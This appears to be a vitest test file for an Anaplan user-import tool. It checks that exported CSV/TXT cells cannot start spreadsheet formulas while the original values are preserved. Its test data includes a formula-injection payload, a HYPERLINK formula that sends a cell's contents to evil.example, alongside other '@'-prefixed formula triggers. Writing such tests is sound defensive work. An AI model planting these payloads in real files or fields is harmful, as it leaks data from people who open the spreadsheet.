import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import { startsFormula } from '../../../src/formats/table/cells.js';
import type { ScimTestServer } from '../../scim-server/server.js';
import { acmeTenant, anaplanProject, anaplanScim } from './project.js';

let server: ScimTestServer | undefined;
afterEach(async () => {
  await server?.close();
  server = undefined;
});

const FIRST = '=HYPERLINK("http://evil.example/?"&A1,"x")';
const LAST = '@SUM(1+1)';
/** A selective access the model really offers, whose name a spreadsheet would run. */
const ACCESS = '@Regions All';

const MEMBERS = `members:
  - email: eve@acme.com
    firstName: ${JSON.stringify(FIRST)}
    lastName: ${JSON.stringify(LAST)}
    roles: ["FP&A", Planner]
    access: [${JSON.stringify(ACCESS)}, Products Read]
`;

describe('Anaplan import files and formula injection', () => {
  for (const fileFormat of ['csv', 'txt'] as const)
    it(`${fileFormat}: no cell starts a formula, and the model keeps the exact values`, async () => {
      server = await anaplanScim();
      const model = acmeTenant(server, []);
      const p = anaplanProject(server, model, { files: { 'fpa.yaml': MEMBERS }, uploads: true, fileFormat });
      const outcome = await p.apply();
      expect(outcome.report!.targets[0]!.failures).toEqual([]);
      const [file] = p.runFiles(outcome.report!.runId);
      const cells = (
        parse(readFileSync(file!, 'utf8'), { delimiter: fileFormat === 'txt' ? '\t' : ',' }) as string[][]
      ).flat();
      expect(cells.filter(startsFormula)).toEqual([]);
      expect(cells).toContain(` ${FIRST}`);
      expect(model.find('eve@acme.com')).toMatchObject({
        firstName: FIRST,
        lastName: LAST,
        role: 'Planner',
        access: [ACCESS, 'Products Read'],
      });
      expect(server.store.userByName('eve@acme.com')!.name).toEqual({ givenName: FIRST, familyName: LAST });
      expect((await p.plan()).changes).toEqual([]);
    });
});
